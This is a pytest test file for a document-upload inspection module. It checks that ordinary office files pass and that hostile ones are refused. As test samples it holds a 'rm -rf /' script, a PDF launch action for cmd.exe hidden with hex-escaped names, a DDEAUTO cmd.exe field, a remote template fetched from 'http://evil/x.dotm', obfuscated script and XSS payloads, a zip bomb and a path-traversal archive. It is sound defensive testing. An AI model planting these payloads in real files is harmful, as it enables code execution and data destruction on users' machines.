"""What an inspection finds in files, good and bad."""

import struct
import zipfile
import zlib

import pytest

from honbu.kernel.documents.domain import archives
from honbu.kernel.documents.domain.encodings import decode
from honbu.kernel.documents.domain.findings import refused
from honbu.kernel.documents.domain.inspection import inspect
from honbu.kernel.documents.domain.kinds import KINDS, OFFICE
from honbu.kernel.documents.tests import samples

EVERYTHING = frozenset(KINDS)
# The names are written in code, as somebody does who wants them overlooked.
LAUNCH = b"/Pa#67es /OpenAction << /S /L#61unch /F (cmd.exe) >> /X /Pages"


def rule_of(content: bytes, name: str, allowed: frozenset[str] = OFFICE) -> str:
    found = refused(inspect(content, name, allowed=allowed).findings)
    return found.rule if found else ""


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (samples.word(), "議事録.docx", "docx"),
        (samples.excel(), "予算.xlsx", "xlsx"),
        (samples.pdf(), "報告.pdf", "pdf"),
        (samples.png(), "図.png", "png"),
        (samples.jpeg(), "写真.JPG", "jpeg"),
        (samples.compound({"WordDocument": b"\xec\xa5" + b"\0" * 600}), "旧.doc", "doc"),
        (samples.compound({"Workbook": b"\x09\x08\x10\0" + b"\0" * 16}), "旧.xls", "xls"),
        ("氏名,数\r\n山田,3\r\n".encode("cp932"), "表.csv", "csv"),
        ("本文です。".encode(), "本文.txt", "txt"),
    ],
)
def test_ordinary_office_files_pass_whatever_their_claimed_type(content: bytes, name: str, kind: str) -> None:
    inspection = inspect(content, name)
    assert inspection.kind == kind
    assert refused(inspection.findings) is None


@pytest.mark.parametrize(
    ("content", "name", "rule"),
    [
        (b"", "空.pdf", "empty"),
        (samples.word(), "議事録.pdf", "name_differs"),
        (samples.pdf(), "予算.xlsx", "name_differs"),
        (b"MZ\x90\0" + b"\0" * 200, "請求書.pdf", "program"),
        (b"\x7fELF" + b"\0" * 60, "data.txt", "program"),
        (b"#!/bin/sh\nrm -rf /\n", "手順.txt", "program"),
        (b"hello", "手順.pdf.exe", "program"),
        (samples.pdf(script=True), "報告.pdf", "pdf.script"),
        (samples.pdf().replace(b"/Pages", LAUNCH, 1), "報告.pdf", "pdf.program"),
        (samples.pdf_locked(), "報告.pdf", "encrypted"),
        (samples.with_entry(samples.word(), "word/vbaProject.bin", b"x"), "議事録.docx", "macros"),
        (samples.with_entry(samples.excel(), "xl/macrosheets/sheet1.xml", b"<a/>"), "予算.xlsx", "macros"),
        (samples.with_entry(samples.word(), "word/activeX/activeX1.xml", b"<a/>"), "議事録.docx", "active_control"),
        (samples.with_entry(samples.word(), "word/embeddings/x.bin", b"MZ" + b"\0" * 90), "議事録.docx", "program"),
        (
            samples.with_entry(
                samples.word(),
                "word/_rels/settings.xml.rels",
                b"<Relationships><Relationship Id='r1' Type='http://x/attachedTemplate' Target='http://evil/x.dotm' "
                b"TargetMode='&#69;xternal'/></Relationships>",
            ),
            "議事録.docx",
            "remote_content",
        ),
        (
            samples.with_entry(
                samples.word(), "word/footer9.xml", b"<w:instrText>DDEAUTO c:\\x\\cmd.exe</w:instrText>"
            ),
            "議事録.docx",
            "dde",
        ),
        (samples.compound({"WordDocument": b"x" * 600, "_VBA_PROJECT": b"x"}), "旧.doc", "macros"),
        (
            samples.compound({"Workbook": struct.pack("<HH", 0x85, 8) + b"\0\0\0\0\0\x01\0\0"}),
            "旧.xls",
            "macros",
        ),
        (samples.compound({"Workbook": struct.pack("<HH", 0x2F, 2) + b"\0\0"}), "旧.xls", "encrypted"),
        (samples.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "秘密.docx", "encrypted"),
        (samples.zipped({"a.txt": b"a"}), "まとめ.zip", "kind"),
        (b"<html><script>alert(1)</script></html>", "案内.txt", "kind"),
        (bytes(range(256)), "なにか.txt", "kind"),
    ],
)
def test_what_could_harm_or_cannot_be_checked_is_refused(content: bytes, name: str, rule: str) -> None:
    assert rule_of(content, name) == rule


@pytest.mark.parametrize(
    "markup",
    [
        "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        "<svg><a href='java&#x73;cript:alert(1)'/></svg>",
        "<svg><a href='java\tscript:alert(1)'/></svg>",
        "<svg><foreignObject/></svg>",
        "<html><body><iframe src=x></iframe></body></html>",
        "<html><img src=x oNerror=alert(1)></html>",
        "<!DOCTYPE html><html><meta http-equiv=refresh content=0></html>",
    ],
)
def test_a_page_or_drawing_with_a_script_is_refused_even_where_pages_are_taken(markup: str) -> None:
    assert rule_of(markup.encode(), "図.svg" if "<svg" in markup else "頁.html", EVERYTHING) == "script"


def test_a_harmless_drawing_is_taken_where_drawings_are() -> None:
    assert rule_of(b"<svg xmlns='http://www.w3.org/2000/svg'><rect width='1'/></svg>", "図.svg", EVERYTHING) == ""


def test_a_pdf_that_only_turns_to_a_page_is_taken_with_a_remark() -> None:
    inspection = inspect(samples.pdf_opening(), "報告.pdf")
    assert refused(inspection.findings) is None
    assert [found.rule for found in inspection.findings] == ["pdf.opens_somewhere"]


def test_a_script_packed_into_an_object_stream_is_found() -> None:
    packed = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert) >>")
    body = b"%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 99 >> stream\n" + packed
    assert rule_of(body + b"\nendstream endobj", "報告.pdf") == "pdf.script"


def test_a_table_with_a_formula_is_taken_with_the_row_told() -> None:
    inspection = inspect("氏名,式\n山田,-12\n佐藤,=HYPERLINK(1)\n".encode(), "表.csv")
    assert [tuple(found) for found in inspection.findings] == [("csv.formula", "3")]


def test_an_archive_that_grows_beyond_measure_is_refused() -> None:
    bomb = samples.zipped({"word/document.xml": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 100_000
    assert archives.check(bomb, archives.Limits())[0].rule == "archive.bomb"


def test_an_archive_with_too_many_entries_is_refused() -> None:
    many = samples.zipped({f"{number}.txt": b"" for number in range(101)})
    assert archives.check(many, archives.Limits(entries=100))[0].rule == "archive.too_many_entries"


def test_an_archive_that_understates_its_size_is_refused() -> None:
    honest = samples.zipped({"a.txt": b"a" * 10_000})
    lying = honest.replace(struct.pack("<I", 10_000), struct.pack("<I", 10))
    assert archives.check(lying, archives.Limits())[0].rule == "archive.lies"


def test_an_archive_whose_entries_share_their_bytes_is_refused() -> None:
    both = bytearray(samples.zipped({"a.txt": b"a" * 1000, "b.txt": b"b" * 1000}))
    second = both.rfind(b"PK\x01\x02")
    struct.pack_into("<I", both, second + 42, 0)
    assert archives.check(bytes(both), archives.Limits())[0].rule in {"archive.bomb", "archive.broken"}


def test_an_archive_inside_an_archive_is_refused() -> None:
    nested = samples.zipped({"inner.zip": samples.zipped({"a.txt": b"a"})})
    assert [found.rule for found in archives.check(nested, archives.Limits())] == ["archive.nested"]


def test_an_archive_that_climbs_out_of_its_folder_is_refused() -> None:
    assert archives.check(samples.zipped({"../../x": b""}), archives.Limits())[0].rule == "archive.path"


def test_an_archive_under_a_password_is_told() -> None:
    locked = bytearray(samples.zipped({"a.txt": b"a"}))
    locked[locked.rfind(b"PK\x01\x02") + 8] |= 1
    assert archives.check(bytes(locked), archives.Limits())[0].rule == "encrypted"


def test_half_an_archive_is_told_to_be_broken() -> None:
    assert rule_of(samples.word()[:-500], "議事録.docx") in {"kind", "archive.broken"}
    assert archives.check(samples.word()[:-500], archives.Limits())[0].rule == "archive.broken"
    assert zipfile.is_zipfile(samples.__file__) is False


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp932", "euc_jp", "iso2022_jp"])
def test_the_encodings_of_japanese_offices_are_told_apart(encoding: str) -> None:
    text = (
        "情報システム監査の実施について（通知）ｼｽﾃﾑ\r\n"
        if encoding != "iso2022_jp"
        else "情報システム監査の実施について\r\n"
    )
    found = decode(text.encode(encoding))
    assert found is not None
    assert found.text == text


def test_bytes_with_controls_are_no_text() -> None:
    assert decode(b"abc\x01\x02") is None
    assert decode(b"abc\0def") is None
